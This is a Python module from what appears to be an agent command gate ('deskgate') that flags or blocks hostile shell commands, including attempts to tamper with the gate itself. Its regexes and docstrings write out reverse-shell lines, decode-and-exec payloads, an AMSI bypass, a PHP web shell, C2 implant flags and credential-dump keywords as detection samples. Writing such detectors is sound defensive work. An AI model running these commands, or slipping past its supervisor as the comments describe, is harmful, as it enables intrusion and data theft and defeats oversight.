"""Shell findings judged by effect (gate/effects.py), across programs rather than per program name.

Called by the shell Detector (gate/rules/shell.py) for every simple command, after the per-program
detectors. Each check reads what a command does (its table effects, the paths it writes, the data it
sends, the code it hides in a flag) and files a `Finding` under a rule id of gate/rules/shell.py:

- unknown programs and code-running flags ask (`confirm.shell.unknown-program`, `[shell] unknown_programs`)
- a shell started with no script (`ionice /bin/sh`, `vim -c '!sh'`) asks (`confirm.shell.shell-spawn`)
- running deskgate's own control verbs, or changing its config/state/socket/audit files, or killing it,
  is an attack on the supervisor (`block.shell.supervisor-tamper`)
- local data to a network sink: a whole home or DNS lookups built from command output block
  (`block.shell.exfiltration`); other local files sent out ask (`confirm.shell.network`)
- recursive searches for passwords and keys ask (`confirm.shell.credential-search`)
- SUID shells, /etc/shadow reads, sysrq and persistence that runs a network shell block
- the one feature that makes a risky action hostile blocks it, whatever the program: a command line that
  connects a shell to the network handed to a program as an argument (a pager, a line inserted into a boot
  script) or read by a shell from a /dev/tcp descriptor (`block.shell.reverse-shell`); interpreter code that
  decodes a blob and runs it, AMSI switched off (`block.shell.defense-evasion`); what the screen, the clipboard,
  the camera or the microphone captured handed to a network sink (`block.shell.exfiltration`); a setuid program
  in a temporary folder (`block.shell.suid-shell`); a whole machine searched for passwords, found keys gathered,
  a process's memory searched for secrets (`block.shell.credential-read`, `credential-dump`). The same programs
  without that feature keep asking (tests/gate/test_shell_hostile_features.py).
"""

from __future__ import annotations

import functools
import itertools
import re
from collections.abc import Callable
from typing import TYPE_CHECKING, NamedTuple

from gate.catalogue import functions_for, risky_destination
from gate.effects import DESCRIBED_OFFLINE, DESCRIBED_PLAIN, program_effects, unknown_effect
from gate.model import Risk
from gate.nochange import quiet_use
from gate.prefix import Guarded
from gate.redact import find_secrets
from gate.rules.shell_credentials import cluster_secrets_dump
from gate.rules.shell_evasion import quarantine_staged
from gate.rules.shell_persistence import kernel_service, kext_unload, plist_program
from gate.rules.shell_platforms import (
    _DESKTOP_INPUT,
    _FETCHERS,
    _SCANNERS,
    _SECRET_VERBS,
    _SECURITY_TOOLS,
    _TUNNELS,
    WINDOWS_DEFENCE_PROGRAMS,
    cloud_defences,
    data_remote_pushed,
    printed_secret,
    remote_and_desktop,
    secrets_and_platforms,
    system_state,
    windows_defences,
)
from gate.rules.shell_privilege import acl_grant, host_root_device, polkit_grant
from gate.rules.shell_token_search import collected_into, token_format
from gate.rules.shell_vocab import LEGACY_AUTORUN
from gate.rules.web import plain_settings_page
from gate.shell import (
    DOWNLOADERS,
    HOME,
    INTERPRETERS,
    SHELLS,
    UPSTREAM_WINDOW,
    Command,
    Finding,
    ShellAnalysis,
    analyse,
    display_path,
    resolve_path,
)

if TYPE_CHECKING:
    from gate.rules.shell import Detector

__all__ = ["judge"]

Add = Callable[[Finding], None]

# deskgate's own command line: verbs an agent may run (reading state, acting through deskgate, stopping
# it); any other verb (resume, unpause, serve, run, revoke, log prune, future control verbs) is refused
_DESKGATE_SAFE = frozenset({"kill", "pause", "status", "grants", "explain", "check", "rules", "policy", "docs",
                            "doctor", "act", "do", "hook", "mcp", "log", "--help", "-h", "help", "--version",
                            "version"})
_LOG_SAFE = frozenset({"tail", "show", "export", "verify", "stats"})
# deskgate's own sockets and files named inside code or a socket address (`python3 -c "...control.sock"`,
# `socat - UNIX-CONNECT:.../deskgate.sock`): a path segment `deskgate/`, or one of its file names
OWN_NAMES = re.compile(r"deskgate\.sock\b|\bcontrol\.sock\b|\bkilled\.json\b|\baudit\.(db|key)\b|\baudit-chain\b|"
                        r"(\b(config|share|state)|/run/user/\d+|\bXDG_\w+\}?)[/\\]deskgate\b", re.I)
# programs that run a command line given in their arguments (a terminal window, xargs): `xterm -e deskgate
# resume` runs deskgate on a terminal of its own, outside the agent's process tree
_LAUNCHERS = frozenset({"xterm", "uxterm", "gnome-terminal", "konsole", "x-terminal-emulator", "kitty", "alacritty",
                        "urxvt", "rxvt", "terminator", "tilix", "xfce4-terminal", "mate-terminal", "lxterminal",
                        "foot", "wezterm", "sakura", "terminology", "qterminal", "xargs", "parallel", "script",
                        "gnome-terminal.wrapper", "kgx", "ptyxis"})
# programs whose arguments are code or a socket address, not operands the path rules read
_CODE_RUNNERS = frozenset({"nc", "ncat", "netcat", "socat", "curl", "websocat", "telnet"})
_WRITE_EFFECTS = frozenset({"write", "delete", "chmod"})
_INTERPRETER_PATH = re.compile(r"(^|/)(python[0-9.]*|perl[0-9.]*|ruby[0-9.]*|php[0-9.]*|node|lua[0-9.]*|"
                               r"(ba|da|z|k|mk|c|tc|fi|a|y)?sh|env|busybox|vim?|nvim|find|awk|gawk|less|more|"
                               r"nmap|gdb|tclsh|expect|socat|nc|ncat|cp|tar|zip|openssl|bash)$")
_DNS_TOOLS = frozenset({"nslookup", "dig", "host", "drill", "ping", "ping6", "resolvectl", "getent",
                        "traceroute", "kdig", "delv"})
_NET_SINKS = frozenset({"curl", "curlie", "wget", "wget2", "http", "https", "xh", "nc", "ncat", "netcat",
                        "socat", "telnet", "openssl", "ssh", "scp", "sftp", "rsync", "ftp", "lftp", "tftp",
                        "smbclient", "rclone", "aws", "gsutil", "s3cmd", "mail", "mailx", "sendmail", "mutt",
                        "swaks", "cryptcat", "pwncat", "websocat", "azcopy", "mc", "whois"})
_ARCHIVERS = frozenset({"tar", "gtar", "bsdtar", "zip", "7z", "7za", "cpio", "gzip", "xz", "zstd", "bzip2",
                        "pax", "rar", "dd", "base64", "cat", "find", "ls", "ditto", "streamzip", "hdiutil"})
_SEARCHERS = frozenset({"grep", "egrep", "fgrep", "rg", "rga", "ag", "ack", "ugrep", "findstr", "select-string",
                        "git", "zgrep"})
_SECRET_WORDS = re.compile(r"passw|passwd|pwd\s*=|secret[_-]?key|private[ _-]?key|begin [a-z ]*private|"
                           r"aws_(secret|access)|api[_-]?key|client[_-]?secret|\bssh-rsa\b|credential", re.I)
# a shell loop over a literal list: `for NAME in WORDS; do`
_FOR_LIST = re.compile(r"\bfor\s+(\w+)\s+in\s+([^;\n]+?)\s*(?:;|\n)\s*do\b")
_KEY_NAMES = re.compile(r"id_(rsa|dsa|ecdsa|ed25519)|\.pem\b|\.key\b|\.kdbx?\b|\.p12|\.pfx|\.ppk|\.jks|\.keystore|"
                        r"\.keytab\b|\.pgp\b|\.tfstate\b|vault[_-]?pass|\.wallet\b|"
                        r"\.ovpn|wallet\.dat|\.netrc|\.git-credentials|\.pgpass|authorized_keys|known_hosts|"
                        r"credentials|\bshadow\b|\.env\b|passw|secret|\.gpg\b|\.asc\b|\.htpasswd|id_\*|\*_key|"
                        r"\.keychain|login data|logins\.json|key[34]\.db|cookies\.sqlite|web data\b|\.gnupg\b|"
                        r"accesstokens\.json|msal_token_cache|access_tokens\.db|\.binarycookies", re.I)
_WHOLE_HOME = re.compile(r"^(/home/~|/home|/root|/users|/home/[^/~]+|/users/[^/]+|/)/?$")
# programs that look at a file's name, mode or size, not its content
_METADATA = frozenset({"ls", "stat", "chmod", "chown", "chgrp", "getfacl", "lsattr", "test", "[", "[[", "namei",
                       "realpath", "readlink", "du", "find", "basename", "dirname", "touch", "ll", "exa", "eza",
                       "lsd", "tree", "setfacl", "chattr", "getcap", "lsof", "fuser", "echo", "printf",
                       "auditctl"})  # (auditctl -w: a file for the kernel to watch, not read)
_WIN_CRED_STORE = re.compile(r"lsass(\.exe|\.dmp)?\b.*(minidump|\.dmp|-ma\b|dump)|(minidump|-ma\b|dump).*\blsass|"
                             r"comsvcs(\.dll)?\W.*minidump|config\\*(sam|security|system)(?![\w.-])|ntds\.dit|"
                             r"\bifm\b.*\bcreate\b|sekurlsa|lsadump", re.I)
# Every branch of _WIN_CRED_STORE needs one of these words: plain ASCII text without any of them skips the
# search (a few µs per command). Non-ASCII text always searches: re.I also folds `ſ` to `s`, `K` to `k`.
# (The text is a command's folded words: ASCII ones are in lower case already.)
_WIN_CRED_WORDS = re.compile(r"lsass|comsvcs|config|ntds\.dit|ifm|sekurlsa|lsadump")
_WIN_CRED_LISTING = re.compile(r"^(/fi|/svc|/v\b)|imagename\s+eq", re.I)  # tasklist /fi "imagename eq lsass.exe"
_SYSRQ = re.compile(r"^/proc/sysrq-trigger$|^/proc/sys/kernel/sysrq$")
_NET_SHELL_TEXT = re.compile(r"/dev/(tcp|udp)/|\b(curl|wget|fetch)\b[^|;&]*\|\s*(sudo\s+)?(ba|z|da)?sh\b|"
                             r"\b(nc|ncat|netcat)\b[^|;&]*\s-[a-z]*[ec]\b|socat\b[^;&]*exec:|mkfifo\b", re.I)
_WIN_COPIERS = frozenset({"copy", "xcopy", "robocopy", "move", "copy-item", "cpi", "move-item", "mi", "cp", "mv",
                          "expand", "extrac32", "replace", "esentutl", "certutil", "bitsadmin"})
_WIN_SYSTEM = re.compile(r"^[a-z]:[\\/]?(windows|program ?files)", re.I)
_CRON_PREFIX = re.compile(r"^\s*(@\w+|([\d*/,-]+\s+){5})")


def _operands(cmd: Command) -> list[tuple[int, str]]:
    out = []
    for i, a in enumerate(cmd.argv[1:], 1):
        if a == "--":
            continue
        if not a.startswith("-") or a == "-":
            out.append((i, a))
    return out


@functools.lru_cache(maxsize=64)
def _positions(analysis: ShellAnalysis) -> dict[int, int]:
    """Each command's index in `analysis.commands`, by identity (analyses hash by identity: O(1) lookup)."""
    return {id(c): i for i, c in enumerate(analysis.commands)}


def _before(analysis: ShellAnalysis, cmd: Command) -> tuple[Command, ...]:
    """The commands just before `cmd` in the string (at most UPSTREAM_WINDOW of them): what it may see
    written, fetched or staged. Bounded, so that a string of thousands of commands stays linear."""
    i = _positions(analysis).get(id(cmd), 0)
    return analysis.commands[max(0, i - UPSTREAM_WINDOW):i]


_C2_IP = re.compile(r"^(\d{1,3}\.){3}\d{1,3}$")
_C2_NEAR = re.compile(r"^(127\.|10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.|0\.0\.0\.0$)")


def _c2_host(value: str) -> str:
    """The host a URL or `host:port` names (`https://203.0.113.4:443/x` -> 203.0.113.4)."""
    return value.split("://", 1)[-1].split("/", 1)[0].split("@")[-1].rsplit(":", 1)[0]


def _far_ip(host: str) -> bool:
    """A bare IPv4 address that is neither this machine nor of the private ranges."""
    return bool(_C2_IP.match(host)) and not _C2_NEAR.match(host)


# the flags a command-and-control agent is told its server and its pre-shared key by (Merlin's -url/-psk,
# Sliver's and Mythic's build-time settings given at run time by look-alikes)
_C2_SERVER_FLAGS = frozenset({"-url", "--url", "-server", "--server", "-c2", "--c2", "-host", "--host", "-connect",
                              "--connect", "-callback", "--callback", "-addr", "--addr"})
_C2_KEY_FLAGS = frozenset({"-psk", "--psk", "-key", "--key", "-secret", "--secret", "-token", "--token",
                           "-password", "--password", "-pass", "--pass"})
IMPLANT_HINT = Guarded(re.compile(r"(^|\s)--?(url|server|c2|host|connect|callback|addr)[\s=]+\S*\d+\.\d+\.\d+\.\d+"))


def implant(cmd: Command, where: str, add: Add) -> None:
    """A program run by its path (a file downloaded or dropped, not one the system keeps) told to call back to a
    bare public address, with a pre-shared key or detached with its output thrown away: how command-and-control
    agents start (Merlin's `-url https://IP -psk KEY`, ATT&CK T1071/T1573). Pointed at this machine it is left to
    the other rules."""
    if "/" not in cmd.argv[0] and "\\" not in cmd.argv[0]:
        return
    words = list(cmd.words[1:])
    far = ""
    for k, w in enumerate(words):
        flag, eq, value = w.partition("=")
        if flag in _C2_SERVER_FLAGS:
            value = value if eq else (words[k + 1] if k + 1 < len(words) else "")
            host = _c2_host(value)
            if _far_ip(host):
                far = host
                break
    if not far:
        return
    keyed = any(w.partition("=")[0] in _C2_KEY_FLAGS for w in words)
    discarded = any(t in ("/dev/null", "nul", "$null") for _, t in cmd.redirects)
    if keyed or discarded:
        how = "with a pre-shared key" if keyed else "with its output thrown away"
        add(Finding("block.shell.remote-access", Risk.CRITICAL,
                    f"{cmd.argv[0][:40]} is told to call back to the bare address {far} {how}: a remote-control "
                    f"agent's start{where}", cmd.span))


# a mirror's source that holds nothing (named so, or made on the same line by mkdir), and the person's own
# folders it can be mirrored over: the home and its documents, desktop, pictures, downloads, synced drives
_EMPTY_NAME = re.compile(r"^(empty|blank|nothing|null|void|vacant|empty[-_ ]?(dir|folder|directory)|emptydir)$", re.I)
_PERSON_FOLDER = re.compile(r"^(~|\$home|%userprofile%|/home/[^/]+|/users/[^/]+|[a-z]:/users/[^/]+)(/(documents|"
                            r"desktop|pictures|photos|downloads|music|videos|movies|onedrive[^/]*|dropbox|"
                            r"icloud drive|google drive|my documents))?/?$", re.I)


def _empty_mirror(cmd: Command, analysis: ShellAnalysis, operands: list[str], where: str, add: Add) -> None:
    """`robocopy EMPTY DEST /MIR` or `rsync -a --delete EMPTY/ DEST/`: mirroring a folder that holds nothing
    over the person's documents deletes every file there (a known wiping trick: the copier deletes what the
    source lacks). A project mirrored into a backup folder is left to the other rules."""
    words = [w.lower() for w in cmd.argv[1:]]
    if cmd.name == "rsync":
        if not any(w.startswith("--delete") for w in words):
            return
    elif not any(w in ("/mir", "/purge") for w in words):
        return
    paths = [o for o in operands if not o.startswith("/") or cmd.name == "rsync"]
    if len(paths) < 2:
        return
    src, dest = paths[-2].replace("\\", "/").rstrip("/"), paths[-1].replace("\\", "/").rstrip("/")
    if not _PERSON_FOLDER.match(dest or "/"):
        return
    made = any(c.name in ("mkdir", "md", "new-item", "ni") and any(a.replace("\\", "/").rstrip("/") == src
                                                                   for a in c.argv[1:])
               for c in analysis.commands if c is not cmd)
    if made or _EMPTY_NAME.match(src.rsplit("/", 1)[-1]):
        add(Finding("block.shell.mass-destruction", Risk.CRITICAL,
                    f"{cmd.name} mirrors the empty folder {src[:40]} over {dest[:40]}: every file there is deleted"
                    f"{where}", cmd.span))


def judge(d: Detector, cmd: Command, analysis: ShellAnalysis, where: str, add: Add,
          written: dict[str, str], unparsable: bool | None = None) -> None:
    """Every effect-level finding for one simple command (see the module docstring). `unparsable`: whether
    the analysis is (the caller knows it already; None: read it here)."""
    if unparsable is None:
        unparsable = analysis.unparsable
    # each family is looked at only when the command could belong to it (the cold path stays short): the
    # families a program name can belong to are looked up once (`_PLANS`), not tested set by set
    plan = _PLANS.get(cmd.name, _NO_PLAN)
    text = " ".join(cmd.words)  # (`cmd.text`, without the property's call)
    if "deskgate" in text or (cmd.cwd and "deskgate" in cmd.cwd) or \
            (cmd.redirects and any("deskgate" in t for _, t in cmd.redirects)) or \
            (plan.code_runner and (OWN_NAMES.search(text) or ("app." in text and _OWN_CODE.search(text)))) or \
            cmd.name in _OWN_MODULES:
        supervisor(d, cmd, where, add)
    elif (cmd.name in _BULK_READERS or cmd.name in _TREE_CHANGERS or
          (cmd.name == "find" and _FIND_ACTS.intersection(cmd.argv))) and \
            (_OWN_PARENT_HINT.search(text) or cmd.name == "find"):
        supervisor_parent(d, cmd, where, add)
    elif (("*" in text or "?" in text or "[" in text) or (plan.code_runner and _CODE_REMOVES.search(text))) and \
            _OWN_PARENT_HINT.search(text):
        supervisor(d, cmd, where, add)  # a glob or code that may reach deskgate's directories through a parent
    name = cmd.name
    if d.ask_unknown and not unparsable and name not in DESCRIBED_PLAIN:
        # (unknown's own first test, without the call; a program the table describes plainly is never unknown)
        unknown(d, cmd, analysis, where, add)
    for step in plan.before:
        step(d, cmd, analysis, where, add)
    severity(d, cmd, analysis, where, add, written)
    if plan.system or cmd.redirects or cmd.found:
        system_state(d, cmd, analysis, where, add)
    for step in plan.after:
        step(d, cmd, analysis, where, add)
    if plan.platform or (plan.echo and "$" in cmd.span):
        secrets_and_platforms(d, cmd, analysis, where, add)
    if written or cmd.redirects or name not in _WRITES_NOTHING_TO_RUN or cmd.argv[0][:2] == "./" or \
            (cmd.upstream and name in _UNPACKERS):
        # (otherwise written_then_run records nothing and finds nothing: nothing written before, no redirect,
        # a program that writes no file through its arguments, and not a `./file` run after a fetch)
        written_then_run(cmd, analysis, where, add, written)
    # (the checks of a few program names each, in order: none for most names; those of what a redirect or tee
    # writes only when there is one)
    for step in plan.copied:
        step(d, cmd, analysis, where, add, text)
    if cmd.redirects or name == "tee":
        for step in plan.written:
            step(d, cmd, analysis, where, add, text)
    for step in plan.named:
        step(d, cmd, analysis, where, add, text)
    if cmd.redirects and any(t.startswith(("/dev/tcp/", "/dev/udp/")) for _, t in cmd.redirects):
        d.socket_sent(cmd, where, add)  # (a file sent over bash's own sockets: gate/rules/shell_dataout.py)
    if "amsi" in text:
        amsi_bypass(cmd, analysis, where, add)
    if "." in text and IMPLANT_HINT.search(text):
        implant(cmd, where, add)
    for step in plan.coded:
        step(d, cmd, analysis, where, add, text)
    if _net_shell_words(text) and _NET_SHELL_HINT.search(text) and name not in _SHELL_TEXT_READERS and \
            (name not in _TEXT_OUT_ONLY or any(not _DOCUMENT.search(t) for _, t in cmd.redirects)):
        network_shell_argument(d, cmd, where, add)


# a shell wired to the network inside one argument: a pager, hook or launcher option, a line sed inserts into a
# script, a client's output pipe (`git config core.pager 'nc HOST 4444 -e /bin/sh'`, `psql -o '|sh -c ...'`)
_NET_SHELL_HINT = re.compile(r"/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat)(?:\.\w+)?\b[^|;&]*\s-[a-z]*[ec]\s|"
                             r"\bsocat\b[^;&]*\b(?:exec|system):")


def _net_shell_words(text: str) -> bool:
    """Whether `text` holds a word every match of `_NET_SHELL_HINT` holds: most commands hold none, and the hint's
    search tries its branches at every position."""
    return "nc" in text or "/dev/" in text or "socat" in text or "netcat" in text


# where the command line may start inside such an argument (after sed's `4i`, a cron time, a `|`)
_NET_SHELL_START = re.compile(r"\b(?:nc|ncat|netcat|socat|bash|sh|zsh|dash|ksh|exec)\b")
# programs that only search for, show or record such text: a reviewer grepping for reverse shells, a commit message
_SHELL_TEXT_READERS = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "ack", "ugrep", "findstr", "select-string",
                                 "zgrep", "man", "tldr", "whatis", "apropos", "nc", "ncat", "netcat", "socat",
                                 *SHELLS})
_SHELL_NAMED = re.compile(r"\b(ba|z|da|k|c|tc|a)?sh\b|\bcmd(\.exe)?\b|powershell|pwsh")
_ADDRESS = re.compile(r"\b\d{1,3}(\.\d{1,3}){3}\b|\b[a-z0-9-]+(\.[a-z0-9-]+)*\.[a-z]{2,}\b|/dev/(tcp|udp)/|"
                      r"\blocalhost\b")
_TEXT_OUT_ONLY = frozenset({"echo", "printf", "print", "write-output", "write-host"})
_DOCUMENT = re.compile(r"\.(md|markdown|txt|rst|adoc|org|log)$|^/dev/(null|stdout|stderr)$|^[12]$", re.I)
_NET_SHELL_RULES = frozenset({"block.shell.reverse-shell", "block.shell.remote-code-exec"})


def network_shell_argument(d: Detector, cmd: Command, where: str, add: Add) -> None:
    """An argument that is itself a command line wiring a shell to a network connection, handed to a program that
    keeps or runs it: a pager, hook or launcher option, a line inserted into a script, a client's output pipe
    (`block.shell.reverse-shell`). The same detectors judge the argument as if it were typed; `git` only for
    `git config` (its other verbs take messages and patterns)."""
    if cmd.name == "git" and "config" not in cmd.words[1:4]:
        return
    if d.depth > 2:
        return
    d.depth += 1
    try:
        for arg in cmd.argv[1:]:
            low = arg.lower()
            if not _NET_SHELL_HINT.search(low) or not _SHELL_NAMED.search(low) or not _ADDRESS.search(low):
                continue  # (a shell and where to connect, both named: not `nc -e` mentioned in a message)
            starts = [m.start() for m in _NET_SHELL_START.finditer(arg.lower())][:3]
            for at in dict.fromkeys([0, *starts]):
                if any(f.rule in _NET_SHELL_RULES for f in d.run(analyse(arg[at:]))):
                    add(Finding("block.shell.reverse-shell", Risk.CRITICAL,
                                f"{cmd.name} is handed a command line that connects a shell to the network "
                                f"({arg[at:at + 60]}){where}", cmd.span))
                    return
    finally:
        d.depth -= 1


# PowerShell's antimalware scan interface patched or told it failed to start (the field set through reflection, the
# scanning function overwritten in memory): every script after it runs unscanned
_AMSI_OFF = re.compile(r"amsiinitfailed|amsicontext|amsiscanbuffer|amsiopensession|amsi\.dll", re.I)
_AMSI_HOW = re.compile(r"setvalue|virtualprotect|writeprocessmemory|marshal\]::copy|\.patch|getprocaddress", re.I)


def amsi_bypass(cmd: Command, analysis: ShellAnalysis, where: str, add: Add) -> None:
    """The antimalware scan interface switched off from inside PowerShell (`[Ref].Assembly.GetType('...AmsiUtils')
    .GetField('amsiInitFailed',...).SetValue($null,$true)`, AmsiScanBuffer patched): `block.shell.defense-evasion`.
    Naming AMSI alone (reading its documentation, `Get-Help`) passes."""
    if _AMSI_OFF.search(analysis.source) and _AMSI_HOW.search(analysis.source):
        add(Finding("block.shell.defense-evasion", Risk.CRITICAL,
                    f"switches PowerShell's antimalware scanning (AMSI) off from inside the session{where}", cmd.span))


# programs that capture what is on the screen, on the clipboard, before the camera or at the microphone
_CAPTURERS = frozenset({"screencapture", "scrot", "import", "gnome-screenshot", "spectacle", "grim", "maim", "xwd",
                        "flameshot", "xfce4-screenshooter", "imagesnap", "pbpaste", "xclip", "xsel", "wl-paste",
                        "get-clipboard", "gcb", "arecord", "rec", "ffmpeg", "nircmd"})
_CLIPBOARD_OUT = {"xclip": ("-o", "-out"), "xsel": ("-o", "--output", "-b", "--clipboard", "-p", "--primary")}
_FFMPEG_GRAB = re.compile(r"^(x11grab|avfoundation|gdigrab|dshow|v4l2|alsa|pulse|kmsgrab)$")
_LOCAL_SINK = re.compile(r"(^|[/@=])(localhost|127\.[\d.]+|\[?::1\]?|0\.0\.0\.0)([:/]|$)", re.I)


def _captures(c: Command) -> bool:
    """`c` captures the screen, the clipboard, the camera or the microphone (not one that writes the clipboard)."""
    if c.name in _CLIPBOARD_OUT:
        return any(w in _CLIPBOARD_OUT[c.name] for w in c.words[1:]) and \
            not any(w in ("-i", "-in", "--input") for w in c.words[1:])
    if c.name == "ffmpeg":
        return any(_FFMPEG_GRAB.match(w) for w in c.words[1:])
    if c.name == "import":
        return "-window" in c.words
    if c.name == "nircmd":
        return "savescreenshot" in c.words[1:2]
    return True


_SCREENSHOTS = frozenset({"screencapture", "scrot", "import", "gnome-screenshot", "spectacle", "grim", "maim", "xwd",
                          "flameshot", "xfce4-screenshooter", "nircmd"})
_HIDDEN_NAME = re.compile(r"(^|/)\.[^/.][^/]*$")
_PRIVATE_ADDRESS = re.compile(r"^(10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.|100\.(6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.)")


def capture_sent(cmd: Command, analysis: ShellAnalysis, where: str, add: Add) -> None:
    """What is on the clipboard, before the camera or at the microphone captured, or the screen captured silently or
    into a hidden file, and handed to a network sink on the same line (the capture piped in, or its file sent):
    collection sent away (ATT&CK T1113, T1115, T1125 with T1041), `block.shell.exfiltration`; any capture sent to a
    bare public address or a drop site too. A capture kept on disk or sent to this machine itself passes here, and
    a plain screenshot sent to a named host (a bug report) asks as any upload does."""
    cmds = analysis.commands
    caps = [c for c in cmds if c.name in _CAPTURERS and c is not cmd and _captures(c)]
    if not caps or _LOCAL_SINK.search(" ".join(cmd.argv[1:])):
        return
    fed = any(cmds.index(c) in cmd.upstream for c in caps)
    files = {t for c in caps for op, t in c.redirects if op in (">", ">>")}
    files |= {a for c in caps for a in c.argv[1:] if not a.startswith("-") and "." in a.rsplit("/", 1)[-1]}
    if not (fed or any(f and (f in a) for f in files for a in cmd.argv[1:])):
        return
    drop = risky_destination(cmd.words)
    covert = any(c.name not in _SCREENSHOTS or "-x" in c.words[1:] for c in caps) or \
        any(_HIDDEN_NAME.search(f) for f in files) or (drop is not None and not _PRIVATE_ADDRESS.match(drop))
    if covert:
        add(Finding("block.shell.exfiltration", Risk.CRITICAL,
                    f"{cmd.name} sends what {caps[0].name} captured (screen, clipboard, camera or microphone) off "
                    f"the machine{where}", cmd.span))


# interpreter code that turns encoded text back into code (base64, hex, base32/85, a compressed blob) ...
_DECODER_CALL = re.compile(r"b64decode|b32decode|b85decode|a85decode|decodebytes|decodestring|unhexlify|"
                           r"bytes\.fromhex|codecs\.decode|zlib\.decompress|marshal\.loads|\batob\(|"
                           r"buffer\.from\([^)]*['\"](base64|hex)|unpack\(\s*['\"][mh]|decode_base64|base64\.decode|"
                           r"frombase64string|base64_decode|gzinflate|str_rot13")
# ... and runs it: exec/eval, a shell call, a new process, PowerShell's Invoke-Expression
_EXEC_CALL = re.compile(r"\b(exec|eval|system|popen|spawn|execsync|execfile|passthru|shell_exec|instance_eval|"
                        r"iex|invoke-expression|new function)\s*\(|subprocess\.|os\.system|shell\s*=\s*true|"
                        r"child_process|%x\{|\biex\b|invoke-expression|\|\s*(ba|z|da)?sh\b")


def decoded_exec(cmd: Command, where: str, add: Add) -> None:
    """Inline interpreter code that decodes an encoded blob (base64, hex, XOR over base64, a compressed string) and
    executes the result (`python3 -c "exec(base64.b64decode('...'))"`, PowerShell's `iex` of FromBase64String): the
    code that runs is hidden from review (ATT&CK T1027, T1140; `block.shell.defense-evasion`). Decoding to print or
    to save asks or passes; a literal the gate can decode itself is judged as that code too."""
    text = " ".join(cmd.argv[1:]).lower()
    if _DECODER_CALL.search(text) and _EXEC_CALL.search(text):
        add(Finding("block.shell.defense-evasion", Risk.CRITICAL,
                    f"{cmd.name} decodes an encoded payload and runs it: the code is hidden from review{where}",
                    cmd.span))


# a key prefix that covers a whole store or a Kubernetes cluster's registry (its objects, its secrets)
_WHOLE_PREFIX = re.compile(r"^(/|/registry/?|/registry/(secrets|namespaces|deployments|pods|services)/?|)$")


def registry_wipe(cmd: Command, where: str, add: Add) -> None:
    """etcdctl deleting every key under the store's root or the Kubernetes registry (`etcdctl del --prefix
    /registry/`): every object of the cluster goes at once, past any undo (`block.shell.mass-destruction`). One key,
    or a narrow prefix, asks as the program's other writes do."""
    words = cmd.argv[1:]
    if not words or words[0] not in ("del", "delete") or not any(w in ("--prefix", "--from-key") or
                                                                 w.startswith("--prefix=") for w in words):
        return
    keys = [w for w in words[1:] if not w.startswith("-")]
    if keys and _WHOLE_PREFIX.match(keys[0]):
        add(Finding("block.shell.mass-destruction", Risk.CRITICAL,
                    f"etcdctl deletes every key under {keys[0] or 'the root'}: every object of the cluster{where}",
                    cmd.span))


def descriptor_shell(cmd: Command, analysis: ShellAnalysis, where: str, add: Add) -> None:
    """A shell whose input is a numbered descriptor the same line opened on /dev/tcp or /dev/udp (`exec 5<>/dev/tcp/
    HOST/PORT; sh <&5 >&5`): the shell reads its commands from the network (`block.shell.reverse-shell`)."""
    if not any(op == "<&" and t.isdigit() for op, t in cmd.redirects):
        return
    if any(t.startswith(("/dev/tcp/", "/dev/udp/")) for c in analysis.commands for _, t in c.redirects):
        add(Finding("block.shell.reverse-shell", Risk.CRITICAL,
                    f"{cmd.name} reads its commands from a network connection opened on a descriptor{where}",
                    cmd.span))


_ACCOUNT_COPIERS = frozenset({"cp", "install", "rsync", "dd", "cat", "ditto", "copy", "copy-item", "xcopy"})
_ACCOUNT_LIST = re.compile(r"^(if=)?/etc/(passwd|group|master\.passwd)$")
_STAGED_COPY = re.compile(r"^(/tmp|/private/tmp|/dev/shm|/run/shm|/var/tmp|/private/var/tmp)(/|$)|/\.[^/.][^/]*(/|$)")


_TEXT_WRITERS = frozenset({"echo", "printf", "cat", "tee", "print"})
# the temporary folders themselves (their sticky bit is 1777, not a setuid program)
_SETUID_MODE = re.compile(r"[4567][0-7]{3}|[ua]*[+=][rwxXt]*s[rwxXst]*")  # setuid (not a setgid folder)
_STAGING_ROOTS = frozenset({"/tmp", "/private/tmp", "/dev/shm", "/run/shm", "/var/tmp", "/private/var/tmp"})
# server-side code that runs what a web request sends: the request's input handed to a command or evaluator
_WEB_INPUT = re.compile(r"\$_(get|post|request|cookie|server|files)\b|php://input|getparameter\s*\(|"
                        r"request\s*(\.\s*(form|querystring|params|args|body|headers|getheader)|\[|\()|"
                        r"\bparams\s*\[|\bargv\b", re.I)
_WEB_EXEC = re.compile(r"\b(system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|eval|assert|"
                       r"create_function|preg_replace\s*\(\s*['\"].*/e)\s*\(|`\s*\$_|getruntime\s*\(\s*\)\s*"
                       r"\.\s*exec|processbuilder|process\.start|wscript\.shell|\beval\s+request|execute\s*\(?\s*"
                       r"request|os\.(system|popen)|subprocess|child_process", re.I)
_SERVER_PAGE = re.compile(r"\.(php\d?|phtml|phar|inc|jspx?|jsf|aspx?|ashx|asmx|asa|cer|cfm|cgi|pl|shtml)$|"
                          r"(^|/)(inetpub/wwwroot|var/www|srv/www|usr/share/nginx/html|htdocs|public_html|webapps)/",
                          re.I)


def webshell(cmd: Command, analysis: ShellAnalysis, where: str, add: Add) -> None:
    """Server-side code that runs whatever a web request sends (`<?php system($_GET[c]) ?>`), written into a
    server page or a web root: a door into the machine for anyone who knows the address."""
    targets = [t for op, t in cmd.redirects if op in (">", ">>", ">|")]
    if cmd.name == "tee":
        targets += [a for _, a in _operands(cmd)]
    targets = [t for t in targets if _SERVER_PAGE.search(t)]
    if not targets:
        return
    text = cmd.stdin_text or ""
    if cmd.name != "tee":
        text += " ".join(cmd.argv[1:])
    for i in cmd.upstream:
        up = analysis.commands[i]
        if up.name in ("echo", "printf"):
            text += " " + " ".join(up.argv[1:])
    if _WEB_INPUT.search(text) and _WEB_EXEC.search(text):
        add(Finding("block.shell.malicious-persistence", Risk.CRITICAL,
                    f"writes a web shell to {targets[0]}: server code that runs what a request sends{where}",
                    cmd.span))


def account_copy(cmd: Command, where: str, add: Add) -> None:
    """The account list (/etc/passwd, /etc/group) copied into a temporary or hidden folder: the list of who
    can log in, put where it is picked up later or sent on. Printing it (`cat /etc/passwd`) passes."""
    ops = [a for _, a in _operands(cmd)]
    dests = [t for op, t in cmd.redirects if op in (">", ">>", ">|")]
    if cmd.name == "dd":
        dests += [a[3:] for a in ops if a.startswith("of=")]
